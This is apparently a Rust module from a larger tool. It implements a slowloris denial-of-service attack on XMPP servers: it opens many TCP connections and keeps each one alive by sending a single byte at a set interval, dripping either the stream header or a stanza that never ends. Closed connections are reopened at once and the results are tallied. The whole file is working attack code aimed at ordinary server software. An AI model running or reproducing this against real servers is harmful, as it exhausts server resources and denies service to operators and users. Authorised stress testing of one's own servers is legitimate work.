//! `slowloris`: hold connections by sending one byte every `--drip-secs`: half the
//! loops drip the stream header itself, half send the header at once and drip a
//! stanza that never ends. A connection the server closes is replaced at once.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::{Env, Tally, attack_error, payload};
use crate::xmpp::conn::{self, ConnError, ErrorKind, Stage};
use crate::xmpp::scan::{self, Event, Scanner};

pub async fn run(env: Arc<Env>, tally: Arc<Tally>, drip_header: bool) {
    loop {
        tokio::select! {
            () = env.stop.cancelled() => return,
            () = once(&env, &tally, drip_header) => {}
        }
    }
}

async fn once(env: &Env, tally: &Tally, drip_header: bool) {
    tally
        .connections
        .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let connect = conn::tcp_connect(env.target.server, env.source(), None);
    let mut sock = match tokio::time::timeout(env.target.timeout, connect).await {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => {
            tally.outcome(ConnError::new(Stage::Connect, ErrorKind::Io(e)).reason());
            env.pause(std::time::Duration::from_millis(20)).await;
            return;
        }
        Err(_) => {
            tally.outcome(ConnError::new(Stage::Connect, ErrorKind::Timeout).reason());
            return;
        }
    };
    let _open = tally.opened();
    tally.attempt(0);
    let (now, drip) = payload::slowloris_prefix(&env.target.domain, !drip_header);
    if !now.is_empty() {
        if let Err(e) = sock.write_all(&now).await {
            tally.outcome(attack_error(ErrorKind::Io(e)));
            return;
        }
        tally.sent(now.len());
    }
    let mut scanner = Scanner::default();
    let mut buf = [0u8; 2048];
    let mut next = Instant::now();
    let mut i = 0;
    loop {
        tokio::select! {
            r = sock.read(&mut buf) => match r {
                Ok(0) => {
                    tally.answer(attack_error(ErrorKind::Closed));
                    return;
                }
                Ok(n) => {
                    tally.received(n);
                    scanner.feed(&buf[..n]);
                    if let Some(end) = stream_end(&mut scanner) {
                        tally.answer(end);
                        return;
                    }
                }
                Err(e) => {
                    tally.answer(attack_error(ErrorKind::Io(e)));
                    return;
                }
            },
            () = tokio::time::sleep_until(next) => {
                if let Err(e) = sock.write_all(&[payload::drip_byte(&drip, i)]).await {
                    tally.answer(attack_error(ErrorKind::Io(e)));
                    return;
                }
                tally.sent(1);
                i += 1;
                next += env.drip_every;
            }
        }
    }
}

/// How the server ended the stream, if it has: a stream error's condition or its
/// closing tag (the TCP close that follows is then not counted again).
fn stream_end(scanner: &mut Scanner) -> Option<String> {
    loop {
        match scanner.next_event() {
            Ok(Some(Event::Element(e))) if scan::root_name(e) == b"error" => {
                let cond = scan::first_child_name(e).unwrap_or_else(|| "unknown".into());
                return Some(attack_error(ErrorKind::StreamError(cond)));
            }
            Ok(Some(Event::StreamClose)) => return Some(attack_error(ErrorKind::Closed)),
            Ok(Some(_)) => {}
            Ok(None) => return None,
            Err(e) => return Some(attack_error(ErrorKind::Protocol(e.to_string()))),
        }
    }
}
